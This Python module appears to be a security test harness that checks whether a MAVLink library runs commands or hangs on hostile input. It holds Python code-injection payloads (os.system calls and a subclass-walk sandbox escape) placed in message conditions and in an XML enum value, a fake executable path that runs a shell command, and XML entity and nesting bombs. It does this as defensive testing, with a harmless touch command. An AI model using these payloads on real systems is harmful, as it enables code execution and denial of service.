"""Data that would be code, and definitions that would take all day."""

from __future__ import annotations

import importlib
import os
import stat
import subprocess
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from encoder import heartbeat, record

from hardening.tools import alarm, capture_of, mavutil_of, silence, until

HEAD = '<?xml version="1.0"?><mavlink><version>3</version>'


def ran(package: str, attack: Callable[[str, str], object], control: Callable[[str], bool]) -> str:
    """Whether a command in the data is run, which makes a file. "no" takes that `control` holds: that the
    package does with harmless data what it should.
    """
    with tempfile.TemporaryDirectory() as folder:
        made = Path(folder) / "made"
        with silence():
            try:
                with alarm(10):
                    attack(package, f"touch {made}")
            except Exception:
                pass
        if until(made.exists, 0.5):
            return "yes"
    try:
        return "no" if control(package) else "harmless data do not work either"
    except Exception as error:
        return f"harmless data do not work either: {type(error).__name__}"


def condition(package: str, command: str) -> None:
    link = capture_of(package)
    for payload in (
        f"__import__('os').system('{command}')",
        f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        f".__init__.__globals__['system']('{command}')",
        f"HEARTBEAT.__init__.__globals__['__builtins__']['__import__']('os').system('{command}')",
    ):
        link.rx += heartbeat() + heartbeat(1)
        try:
            link.recv_match(condition=payload)
        except Exception:
            pass


def condition_holds(package: str) -> bool:
    link = capture_of(package)
    link.rx += heartbeat()
    return link.recv_match(condition="HEARTBEAT.type >= 0") is not None


def enum_value(package: str, command: str) -> None:
    text = f"__import__('os').system('{command}')"
    xml = f'{HEAD}<enums><enum name="E"><entry value="{text}" name="X"/></enum></enums></mavlink>'
    parse_xml(package, xml)


def enum_is_read(package: str) -> bool:
    xml = f'{HEAD}<enums><enum name="E"><entry value="7" name="X"/></enum></enums></mavlink>'
    return [entry.value for entry in parse_xml(package, xml).enum[0].entry][:1] == [7]


def parse_xml(package: str, xml: str) -> Any:
    parser = importlib.import_module(f"{package}.generator.mavparse")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "my.xml"
        path.write_text(xml)
        return parser.MAVXML(str(path), "2.0")


def program(package: str, command: str) -> None:
    path = Path(command.split()[1]).with_name("vehicle.elf")
    path.write_text(f"#!/bin/sh\n{command}\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    mavutil_of(package).mavlink_connection(str(path))
    time.sleep(0.5)


def log_is_read(package: str) -> bool:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "vehicle.tlog"
        path.write_bytes(record(heartbeat(), 1_600_000_000_000_000))
        return mavutil_of(package).mavlink_connection(str(path)).recv_msg() is not None


def runs(package: str, short: bool) -> dict[str, Any]:
    """What is run."""
    return {
        name: ran(package, attack, control)
        for name, attack, control in (
            ("by a condition", condition, condition_holds),
            ("by a value in XML", enum_value, enum_is_read),
            ("by the path x.elf", program, log_is_read),
        )
    }


def bombs_of(short: bool) -> dict[str, str]:
    depth, text = (20_000, 10_000) if short else (200_000, 300_000)
    entity = f'<!DOCTYPE m [<!ENTITY a "{"x" * 1000}">]>'
    field = '<message id="{}" name="M"><field type="{}" name="f">d</field></message>'
    return {
        "entities": entity + HEAD + "<dialect>" + "&a;" * (text // 1000 * 10) + "</dialect></mavlink>",
        "nesting": HEAD + "<messages>" * depth + "</messages>" * depth + "</mavlink>",
        "uint8_t[1000000000]": f"{HEAD}<messages>{field.format(1, 'uint8_t[1000000000]')}</messages></mavlink>",
        "message id 2^24": f"{HEAD}<messages>{field.format(1 << 24, 'uint8_t')}</messages></mavlink>",
    }  # fmt: skip


HARMLESS = (
    HEAD
    + '<messages><message id="1" name="M"><field type="uint8_t[4]" name="f">d</field></message>'
    "</messages></mavlink>"
)


def bomb(package: str, xml: str, limit: float) -> str:
    before = time.process_time()
    try:
        with silence(), alarm(limit):
            parse_xml(package, xml)
    except TimeoutError:
        return f"no end in {limit:.0f} s"
    except Exception as error:
        took = 1000 * (time.process_time() - before)
        return f"{type(error).__name__}, {took:.0f} ms"
    return "accepted"


def bombs(package: str, short: bool) -> dict[str, Any]:
    """What becomes of definitions that are made to hurt."""
    # What has no end in pymavlink need not be waited for in the short form.
    limit = 3.0 if short and package == "pymavlink" else 20.0
    importlib.import_module(f"{package}.generator.mavparse")
    found = {}
    for name, xml in bombs_of(short).items():
        # In a process of its own: what is deep may end the interpreter.
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            is_read = bomb(package, HARMLESS, limit) == "accepted"
            told = bomb(package, xml, limit) if is_read else "harmless data do not work either"
            os.write(writer, told.encode())
            os._exit(0)
        os.close(writer)
        try:
            with alarm(limit + 5), open(reader, encoding="utf-8") as answer:
                found[name] = answer.read() or "crash"
        except TimeoutError:
            found[name] = f"no end in {limit:.0f} s"
            subprocess.run(["kill", "-9", str(child)], check=False)
        os.waitpid(child, 0)
    return found
